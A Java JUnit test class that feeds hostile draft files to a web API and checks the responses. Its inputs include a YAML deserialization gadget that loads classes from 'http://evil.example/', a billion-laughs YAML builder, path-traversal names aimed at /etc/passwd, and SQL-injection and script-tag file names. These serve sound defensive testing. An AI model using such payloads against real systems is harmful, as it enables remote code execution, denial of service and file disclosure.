package org.jifen.api.web;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.TestFactory;

/**
 * Hostile input, draft files: text bodies, names, encodings and sizes; then validate, test and
 * publish with what was sent.
 */
class DraftFileInputTest extends HostileInputBase {

    @TestFactory
    Stream<DynamicTest> corpus() {
        Fixture fixture = new Fixture();
        List<Hostile> corpus = new ArrayList<>();
        corpus.addAll(draftFiles(fixture));
        return run(corpus, 90);
    }

    /** Draft files: text bodies, names, encodings, sizes; then validate, test and delete with what was sent. */
    private List<Hostile> draftFiles(Fixture f) {
        List<Hostile> cases = new ArrayList<>();
        String file = draftFile(f.filesVillage, "hostile.drl");
        for (String injection : lines("injections.txt")) {
            cases.add(text("draft file: content " + injection, file, injection + "\n", TEXT_UTF8, Expect.EITHER, 0));
            cases.add(text("draft file: author " + injection, file + "?author=" + seg(injection), "rule\n", TEXT_UTF8,
                    Expect.EITHER, 0));
        }
        for (String unicode : lines("unicode.txt")) {
            cases.add(text("draft file: content " + unicode, file, "// " + unicode + "\n", TEXT_UTF8, Expect.VALID, 0));
        }
        cases.add(text("draft file: author of 101 characters", file + "?author=" + "a".repeat(101), "x", TEXT_UTF8,
                Expect.REJECTED, 400));
        cases.add(text("draft file: 100,000 nested brackets", file, "rule \"x\" when " + "(".repeat(NESTING)
                + ")".repeat(NESTING) + " then end\n", TEXT_UTF8, Expect.EITHER, 0));
        cases.add(text("draft file: NUL bytes", file, "a\u0000b\u0000", TEXT_UTF8, Expect.EITHER, 0));
        cases.add(text("draft file: village.yaml with a YAML tag", draftFile(f.filesVillage, "village.yaml"),
                "id: " + f.filesVillage + "\nname: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader "
                        + "[[!!java.net.URL [\"http://evil.example/\"]]]]\n", TEXT_UTF8, Expect.EITHER, 0));
        cases.add(text("draft file: a YAML billion laughs", draftFile(f.filesVillage, "laughs.yaml"),
                billionLaughs(), TEXT_UTF8, Expect.EITHER, 0));
        cases.add(new Hostile("draft file: invalid UTF-8", "PUT", file, TEXT_UTF8,
                new byte[] {'a', (byte) 0xC3, (byte) 0x28, (byte) 0xFF}, Map.of(), Expect.REJECTED, 400));
        cases.add(new Hostile("draft file: one byte over 1 MB", "PUT", file, TEXT_UTF8, filled(1024 * 1024 + 1),
                Map.of(), Expect.REJECTED, 413));
        cases.add(new Hostile("draft file: exactly 1 MB", "PUT", file, TEXT_UTF8, filled(1024 * 1024), Map.of(),
                Expect.VALID, 0));
        cases.add(new Hostile("draft file: 3 MB", "PUT", file, TEXT_UTF8, filled(3 * 1024 * 1024), Map.of(),
                Expect.REJECTED, 413));
        for (String type : List.of("application/json", "image/png", "multipart/form-data; boundary=x",
                "application/x-www-form-urlencoded", "text/plain; charset=bogus", "text/plain; charset=UTF-7",
                "not/a/type")) {
            cases.add(text("draft file: Content-Type " + type, file, "rule\n", type, Expect.REJECTED, 0));
        }
        cases.add(text("draft file: GBK text declared as GBK", file, "规则\n", "text/plain; charset=GBK",
                Expect.VALID, 0));
        for (String name : List.of("..%2F..%2Fetc%2Fpasswd", "%2e%2e", "a%00.drl", "x.exe", ".drl", "a%20b.drl",
                "%3Cscript%3E.drl", "a".repeat(101) + ".drl", "%27%20OR%201%3D1.drl", "%E6%96%87%E4%BB%B6.drl",
                "a;b.drl", "..drl", "a%5Cb.drl", "%252e%252e%252f.drl")) {
            cases.add(text("draft file: name " + name.substring(0, Math.min(name.length(), 30)),
                    draftFile(f.filesVillage, name), "rule\n", TEXT_UTF8, Expect.REJECTED, 0));
            cases.add(new Hostile("draft file: DELETE " + name.substring(0, Math.min(name.length(), 30)), "DELETE",
                    draftFile(f.filesVillage, name), null, null, Map.of(), Expect.REJECTED, 0));
        }
        cases.add(text("draft file: unknown village", draftFile("nowhere-" + unique("v"), "a.drl"), "rule\n",
                TEXT_UTF8, Expect.REJECTED, 404));
        cases.add(new Hostile("draft file: POST", "POST", file, TEXT_UTF8, "x".getBytes(StandardCharsets.UTF_8),
                Map.of(), Expect.REJECTED, 405));
        for (String action : List.of("validate", "test")) {
            cases.add(new Hostile("draft " + action + " with a junk body", "POST", draft(f.filesVillage) + "/" + action,
                    "application/octet-stream", new byte[] {0, 1, 2, (byte) 0xFF}, Map.of(), Expect.VALID, 200));
        }
        // the publish is refused naming the problems of the files sent above, which it may quote
        cases.add(new Hostile("draft publish of the hostile draft", "POST", draft(f.filesVillage) + "/publish",
                JSON_TYPE, "{\"author\":\"张三\"}".getBytes(StandardCharsets.UTF_8), Map.of(), Expect.REJECTED, 422)
                .echoing(String.join(" ", lines("injections.txt"))));
        return cases;
    }

    private static String billionLaughs() {
        StringBuilder yaml = new StringBuilder("a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
        char previous = 'a';
        for (char c = 'b'; c <= 'i'; c++) {
            yaml.append(c).append(": &").append(c).append(" [");
            for (int i = 0; i < 9; i++) {
                yaml.append(i == 0 ? "" : ",").append('*').append(previous);
            }
            yaml.append("]\n");
            previous = c;
        }
        return yaml.toString();
    }

    private static byte[] filled(int bytes) {
        byte[] body = new byte[bytes];
        Arrays.fill(body, (byte) 'x');
        for (int i = 99; i < bytes; i += 100) {
            body[i] = '\n';
        }
        return body;
    }
}
